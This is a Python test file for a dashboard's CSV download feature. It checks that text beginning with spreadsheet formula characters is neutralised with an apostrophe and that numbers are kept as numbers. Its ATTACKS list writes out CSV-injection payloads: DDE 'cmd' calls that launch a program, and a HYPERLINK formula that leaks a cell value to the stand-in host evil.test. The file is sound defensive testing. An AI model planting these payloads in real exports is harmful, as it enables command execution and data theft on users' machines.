"""CSV downloads defuse spreadsheet formulas in tracked text and keep computed numbers as numbers."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pandas as pd

from dashboard.components.common import csv_download, neutralise_formulas
from dashboard.components.js_errors import error_groups_frame

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def _rows(payload: dict) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload["content"], newline="")))


def test_csv001_tracked_text_starting_a_formula_is_prefixed() -> None:
    groups = [
        SimpleNamespace(error_name="TypeError", value=text, count=3, session_count=2, percentage=-12.5)
        for text in ATTACKS
    ]
    rows = _rows(csv_download(error_groups_frame(groups), "errors"))
    assert rows[0] == ["error_name", "message", "occurrences", "sessions", "percentage"]
    for row, text in zip(rows[1:], ATTACKS, strict=True):
        assert row[1] == "'" + text
        assert row[4] == "-12.5"  # computed by sitelens: still a number


def test_csv002_plain_text_and_numbers_are_unchanged() -> None:
    df = pd.DataFrame({"path": ["/pricing", "a=b", "", None], "change": [-3, 0, 4, -1], "rate": [-0.5, 1.0, 0.0, 2.5]})
    clean = neutralise_formulas(df)
    assert clean["path"].tolist()[:3] == ["/pricing", "a=b", ""]
    assert clean["change"].tolist() == [-3, 0, 4, -1] and clean["rate"].tolist() == [-0.5, 1.0, 0.0, 2.5]
    assert df["path"].tolist()[1] == "a=b"  # the caller's frame is not changed
    # A carriage return is not quoted by the CSV writer, so it is checked on the frame.
    assert neutralise_formulas(pd.DataFrame({"x": ["\r=1+1"]}))["x"].tolist() == ["'\r=1+1"]
